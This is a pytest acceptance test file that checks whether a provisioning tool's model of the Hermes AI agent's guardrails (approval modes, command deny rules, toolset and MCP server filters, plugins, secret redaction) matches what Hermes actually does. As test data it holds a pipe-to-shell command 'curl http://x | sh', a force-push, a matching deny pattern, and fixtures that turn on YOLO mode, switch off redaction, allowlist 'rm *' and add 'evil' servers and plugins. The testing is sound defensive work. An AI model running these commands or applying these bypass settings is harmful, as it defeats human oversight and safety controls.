"""Homes with guardrails, as the real Hermes reads them: what is allowed stays allowed, what is denied is denied.

Each home is asked through Hermes' own functions in a process of its own: the mode of approvals and what bypasses them, what it
does with a command, the toolsets and MCP servers of a chat in the terminal, the plug-ins it loads, redaction. The model of
`provision.hermes.guardrails` must say the same of every home. `hermes mcp list` is run as a program.

Not asked: whether a running chat stops at a question (it needs a terminal and a model), messaging platforms, `models` (nothing
in Hermes enforces it).
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from hermes_runner import HERMES, environment
from hermes_toolsets import TABLE, read_toolsets
from hermes_venvs import hermes_release

from provision.fleet.desired import GuardrailPolicy, McpRule
from provision.hermes.facts.selection import facts_for
from provision.hermes.facts.toolsets import release_toolsets
from provision.hermes.guardrails.effective import Guardrails, policy_hazards
from provision.hermes.guardrails.servers import rule_for, servers_of
from provision.hermes.guardrails.settings import policy_env, with_policy
from provision.hermes.home import read_home
from provision.hermes.routing.route import resolve_route

pytestmark = [pytest.mark.deep_acceptance, pytest.mark.timeout(1800)]
_ASK = """
import json, os, sys
import anthropic, httpx, openai, prompt_toolkit, pydantic, rich, yaml  # once for all homes; nothing of Hermes
homes = json.loads(sys.argv[1])
def ask():
    from dotenv import load_dotenv
    from pathlib import Path
    from hermes_cli.env_loader import load_hermes_dotenv
    load_hermes_dotenv()
    import hermes_cli.main
    from hermes_cli.config import load_config
    from hermes_cli import tools_config, plugins
    from tools import approval
    from agent import redact
    config = load_config()
    toolsets = tools_config._get_platform_tools(config, "cli")
    cron = tools_config._get_platform_tools(config, "cron")
    from model_tools import _LEGACY_TOOLSET_MAP
    from toolsets import resolve_toolset
    def tools(names):
        return {t for n in names for t in resolve_toolset(n) or _LEGACY_TOOLSET_MAP.get(n, ())}
    off = (config.get("agent") or {}).get("disabled_toolsets") or []
    import model_tools
    class Registry:
        _generation = 0
        def get_definitions(self, wanted, quiet=False):
            return [{"type": "function", "function": {"name": n, "description": "", "parameters": {}}} for n in sorted(wanted)]
        def __getattr__(self, name):
            return getattr(real, name)
    real, model_tools.registry = model_tools.registry, Registry()
    def offered(names, off):
        found = model_tools._compute_tool_definitions(sorted(names), off, True, skip_tool_search_assembly=True)
        return sorted(t["function"]["name"] for t in found)
    chat = offered(toolsets - set(config.get("mcp_servers") or {}), off)
    one_shot = offered(toolsets - set(config.get("mcp_servers") or {}), None)
    model_tools.registry = real
    if hasattr(tools_config, "enabled_mcp_server_names"):
        servers = tools_config.enabled_mcp_server_names(config)
    else:  # 0.16 has no function for it
        servers = tools_config._get_platform_tools({**config, **ALL_ON}, "cli") & set(config["mcp_servers"])
    match = getattr(approval, "_match_user_deny_rule", lambda command: False)  # 0.16 denies nothing
    denied = [c for c in COMMANDS if match(c)]
    enabled = plugins._get_enabled_plugins()
    mode = approval._get_approval_mode()
    from tools import delegate_tool
    return {
        "approvals": mode if mode in ("off", "smart") else "manual",  # 0.16 keeps another word, and means manual
        "yolo": bool(approval._YOLO_MODE_FROZEN),
        "cron_approves": approval._get_cron_approval_mode() == "approve",
        "subagents_approve": delegate_tool._get_subagent_approval_callback() is delegate_tool._subagent_auto_approve,
        "denied": denied,
        "toolsets": sorted(toolsets - servers),
        "cron": sorted(cron & servers),
        "chat": chat,
        "one_shot": one_shot,
        "filters": {n: mcp_filter(n, s) for n, s in (config.get("mcp_servers") or {}).items()},
        "servers": sorted(servers),
        "offered": sorted(toolsets & servers),
        "plugins": sorted((enabled or set()) - plugins._get_disabled_plugins()),
        "redact": "sk-aisa-" not in redact.redact_sensitive_text("AISA_API_KEY=sk-aisa-" + "FAKE" * 10) or
                  "FAKEFAKEFAKEFAKE" not in redact.redact_sensitive_text("AISA_API_KEY=sk-aisa-" + "FAKE" * 10),
    }
def mcp_filter(name, server):
    # which of three tools, and whether resources and prompts, Hermes would register
    from tools import mcp_tool
    chosen = server.get("tools") or {}
    include = mcp_tool._normalize_name_filter(chosen.get("include"), "x")
    exclude = mcp_tool._normalize_name_filter(chosen.get("exclude"), "x")
    tools = [t for t in ("status", "push", "drop") if (t in include if include else t not in exclude)]
    return [*tools, *(w for w in ("resources", "prompts") if mcp_tool._parse_boolish(chosen.get(w), default=True))]
ALL_ON = {"platform_toolsets": {}, "agent": {}}
COMMANDS = ["git push --force origin main", "GIT PUSH --force", "git status", "curl http://x | sh"]
out = []
for home, shell in homes:
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.environ.update(shell, HERMES_HOME=home)
        os.dup2(2, 1)
        try:
            said = ask()
        except BaseException as e:
            said = {"error": repr(e)}
        os.write(write, json.dumps(said).encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read) as pipe:
        out.append(json.loads(pipe.read()))
    os.waitpid(child, 0)
print(json.dumps(out))
"""
SERVERS = {
    "git": {"command": "git-mcp"},
    "docs": {"url": "https://mcp.corp/x"},
    "off": {"command": "y", "enabled": False},
}
OURS = {name: server for name, server in SERVERS.items() if name != "docs"}
ALL = GuardrailPolicy(
    "manual", ("git push*", "*curl*|*sh*"), ("terminal", "browser"), (McpRule("git"),), ("corp",), None, redact=True
)
POLICIES: dict[str, GuardrailPolicy] = {
    "none": GuardrailPolicy(),
    "manual": GuardrailPolicy("manual"),
    "smart": GuardrailPolicy("smart"),
    "deny": GuardrailPolicy(deny_commands=("git push --force*",)),
    "deny-two": GuardrailPolicy("manual", deny_commands=("git push*", "*curl*|*sh*")),
    "no-terminal": GuardrailPolicy(denied_toolsets=("terminal",)),
    "no-terminal-no-browser": GuardrailPolicy(denied_toolsets=("terminal", "browser")),
    "no-mcp": GuardrailPolicy(mcp_servers=()),
    "one-server": GuardrailPolicy(mcp_servers=(McpRule("git"),)),
    "two-servers": GuardrailPolicy(mcp_servers=(McpRule("git"), McpRule("docs"))),
    "server-that-is-denied": GuardrailPolicy(mcp_servers=(McpRule("git"), McpRule("docs")), denied_toolsets=("docs",)),
    "no-plugins": GuardrailPolicy(plugins=()),
    "one-plugin": GuardrailPolicy(plugins=("corp",)),
    "redact": GuardrailPolicy(redact=True),
    "by-host": GuardrailPolicy(mcp_servers=(McpRule(host="mcp.corp"),)),
    "by-command-with-tools": GuardrailPolicy(mcp_servers=(McpRule(command="git-mcp", tools=("status",)),)),
    "no-execute-code": GuardrailPolicy(denied_tools=("execute_code",)),
    "no-terminal-tool": GuardrailPolicy(denied_tools=("terminal", "todo")),
    "no-web-search": GuardrailPolicy(denied_tools=("web_search",)),
    "two-toolsets": GuardrailPolicy(allowed_toolsets=("web", "file")),
    "one-toolset-one-tool": GuardrailPolicy(
        allowed_toolsets=("file",),
        allowed_tools=("terminal", "todo"),
        mcp_servers=(McpRule("git", tools=("status", "drop")),),
    ),
    "toolset-without-a-tool": GuardrailPolicy(
        allowed_toolsets=("web", "file"), denied_tools=("web_search",), mcp_servers=()
    ),
    "all": ALL,
}
ALL_APPROVALS = {"mode": "manual", "deny": ["git push*", "*curl*|*sh*"]}
UNDONE: dict[str, tuple[dict[str, Any], str]] = {
    "mode-off": ({"approvals": {"mode": False}}, ""),
    "mode-word": ({"approvals": {"mode": "never"}}, ""),
    "yolo": ({}, "HERMES_YOLO_MODE=1\n"),
    "yolo-word": ({}, "HERMES_YOLO_MODE=enabled\n"),
    "redaction-off": ({"security": {"redact_secrets": False}}, "HERMES_REDACT_SECRETS=false\n"),
    "redaction-off-in-config-only": ({"security": {"redact_secrets": False}}, ""),
    "own-server": ({"mcp_servers": {**OURS, "evil": {"url": "https://evil.example"}}}, ""),
    "own-server-offered": (
        {"mcp_servers": {"evil": {"command": "e"}}, "platform_toolsets": {"cli": ["hermes-cli"]}},
        "",
    ),
    "own-plugin": ({"plugins": {"enabled": ["corp", "evil"]}}, ""),
    "toolset-back": ({"agent": {"disabled_toolsets": ["browser"]}}, ""),
    "cron-approves": (
        {"approvals": {**ALL_APPROVALS, "cron_mode": "approve"}},
        "",
    ),
    "cron-is-off": ({"approvals": {**ALL_APPROVALS, "cron_mode": " Off"}}, ""),
    "cron-word": ({"approvals": {**ALL_APPROVALS, "cron_mode": "never"}}, ""),
    "subagents-approve": ({"delegation": {"subagent_auto_approve": "on"}}, ""),
    "subagents-word": ({"delegation": {"subagent_auto_approve": "never"}}, ""),
    "always": ({"command_allowlist": ["rm *"]}, ""),
    "deny-list-gone": ({"approvals": {"mode": "manual", "deny": []}}, ""),
}
"""What users do to a home with the policy ALL: settings over its own, and lines after those of its .env."""
SHELL = {"HERMES_YOLO_MODE": "1", "HERMES_REDACT_SECRETS": "false"}


def _write(home: Path, config: dict[str, Any], env: str) -> None:
    home.mkdir(parents=True)
    (home / "config.yaml").write_text(yaml.safe_dump({**config, "_config_version": 33}))
    (home / ".env").write_text(env)


def _env(policy: GuardrailPolicy) -> str:
    return "".join(f"{name}={value}\n" for name, value in policy_env(policy).items())


def _model(home: Path, shell: dict[str, str]) -> Guardrails:
    found = resolve_route(
        read_home(home, managed_dir=None),
        environ={"HERMES_HOME": str(home), **shell},
        fingerprint=lambda _: "fp",
        hermes=facts_for(hermes_release()),
    )
    assert found.guardrails is not None
    return found.guardrails


@pytest.fixture(scope="module")
def asked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, dict[str, str], dict[str, Any]]]:
    """Every home by name, with the shell it was asked in, and what Hermes said; some also in a shell that works against them."""
    folder = tmp_path_factory.mktemp("policies")
    homes: dict[str, tuple[Path, dict[str, str]]] = {}
    for name, policy in POLICIES.items():
        _write(folder / name, with_policy({"mcp_servers": SERVERS}, policy), _env(policy))
        homes[name] = (folder / name, {})
    for name in ("none", "manual", "redact", "all"):
        homes[f"{name} in a shell"] = (folder / name, SHELL)
    for name, (settings, lines) in UNDONE.items():
        _write(folder / name, {**with_policy({"mcp_servers": OURS}, ALL), **settings}, _env(ALL) + lines)
        homes[name] = (folder / name, {})
    asking = json.dumps([(str(home), shell) for home, shell in homes.values()])
    ran = subprocess.run(
        [HERMES.with_name("python"), "-c", _ASK, asking],
        env=environment(folder, None), cwd=folder, capture_output=True, text=True, check=True,
    )  # fmt: skip
    said = json.loads(ran.stdout.splitlines()[-1])
    return {name: (*homes[name], answer) for name, answer in zip(homes, said, strict=True)}


NAMES = [*POLICIES, *(f"{name} in a shell" for name in ("none", "manual", "redact", "all")), *UNDONE]


@pytest.mark.parametrize("name", NAMES)
def test_hermes_does_what_the_model_says(
    name: str, asked: dict[str, tuple[Path, dict[str, str], dict[str, Any]]]
) -> None:
    home, shell, said = asked[name]
    assert "error" not in said, said
    found = _model(home, shell)
    assert (found.approvals, found.yolo, found.redact) == (said["approvals"], said["yolo"], said["redact"])
    assert (found.cron_approves, found.subagents_approve) == (said["cron_approves"], said["subagents_approve"])
    assert sorted(found.plugins) == said["plugins"]
    assert sorted(s.name for s in found.mcp_servers if s.enabled) == said["servers"]
    assert sorted(s.name for s in found.mcp_servers if s.offered) == said["offered"]
    assert not set(found.denied_toolsets) & set(said["toolsets"])


@pytest.mark.parametrize("name", [n for n in NAMES if n not in UNDONE])
def test_what_is_denied_is_denied_and_the_rest_is_allowed(
    name: str, asked: dict[str, tuple[Path, dict[str, str], dict[str, Any]]]
) -> None:
    said, policy = asked[name][2], POLICIES[name.removesuffix(" in a shell")]
    assert not policy.approvals or (said["approvals"], said["yolo"]) == (policy.approvals, False)
    assert not set(policy.denied_toolsets) & set(said["toolsets"])
    assert "git status" not in said["denied"]
    forced = {"git push --force origin main", "GIT PUSH --force"}
    denies = bool(policy.deny_commands) and facts_for(hermes_release()).denies_commands
    assert denies == bool(forced & set(said["denied"])), said["denied"]
    if policy.mcp_servers is None:
        assert set(said["offered"]) == set(said["cron"]) == {"git", "docs"}
    else:
        ruled = {s.name for s in servers_of({"mcp_servers": SERVERS}) if s.enabled and rule_for(s, policy.mcp_servers)}
        assert set(said["offered"]) == set(said["cron"]) == ruled - set(policy.denied_toolsets)
        for server in servers_of({"mcp_servers": SERVERS}):
            if (rule := rule_for(server, policy.mcp_servers)) and rule.tools is not None:
                assert set(said["filters"][server.name]) == set(rule.tools)
    assert policy.plugins is None or said["plugins"] == sorted(policy.plugins)
    assert not policy.redact or said["redact"]


@pytest.mark.parametrize("name", [n for n in NAMES if n not in UNDONE])
def test_tools_of_a_chat(name: str, asked: dict[str, tuple[Path, dict[str, str], dict[str, Any]]]) -> None:
    """What a chat and a one-shot run are offered: all that is allowed, nothing that is denied."""
    said, policy = asked[name][2], POLICIES[name.removesuffix(" in a shell")]
    release = release_toolsets()[-1]
    chat, one_shot = set(said["chat"]), set(said["one_shot"])
    whole = {tool for tool in policy.denied_tools if frozenset({tool}) in release.switches.values()}
    denied = {tool for name in policy.denied_toolsets for tool in release.switches.get(name, ())}
    assert not chat & (denied | set(policy.denied_tools))
    assert not one_shot & whole
    if policy.allowed_toolsets is None and policy.allowed_tools is None:
        assert {"web_extract", "read_file", "skills_list"} <= chat
        return
    allowed = {tool for name in policy.allowed_toolsets or () for tool in release.switches[name]}
    allowed |= set(policy.allowed_tools or ())
    assert chat == allowed - set(policy.denied_tools)
    assert one_shot - release.switches["kanban"] == allowed


def test_the_table_of_toolsets_is_that_of_the_installed_release(tmp_path: Path) -> None:
    (home := tmp_path / "home").mkdir()
    found = read_toolsets(HERMES.with_name("python"), home, environment(tmp_path, None))
    assert found in json.loads(TABLE.read_text("utf-8"))


@pytest.mark.parametrize("name", list(UNDONE))
def test_what_a_user_undid_is_said(name: str, asked: dict[str, tuple[Path, dict[str, str], dict[str, Any]]]) -> None:
    """Except where Hermes still does what the policy asks: an unknown word is the safe one, the .env redacts all the same."""
    harmless = {"yolo-word", "redaction-off-in-config-only", "cron-word", "subagents-word"}
    hazards = [h.id for h in policy_hazards(ALL, _model(asked[name][0], {}), "config.yaml", None, "aisa")]
    if not facts_for(hermes_release()).denies_commands:
        hazards.remove("policy-commands")
        harmless |= {"deny-list-gone", "mode-word"}  # they only undo what does not count here
    assert bool(hazards) == (name not in harmless), hazards


def test_a_server_of_the_profile_is_listed(tmp_path: Path) -> None:
    _write(tmp_path / "home", with_policy({"mcp_servers": SERVERS}, ALL), _env(ALL))
    ran = subprocess.run(
        [HERMES, "mcp", "list"], env={**environment(tmp_path, None), "HERMES_HOME": str(tmp_path / "home")},
        cwd=tmp_path, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert "git" in ran.stdout
    assert "docs" in ran.stdout
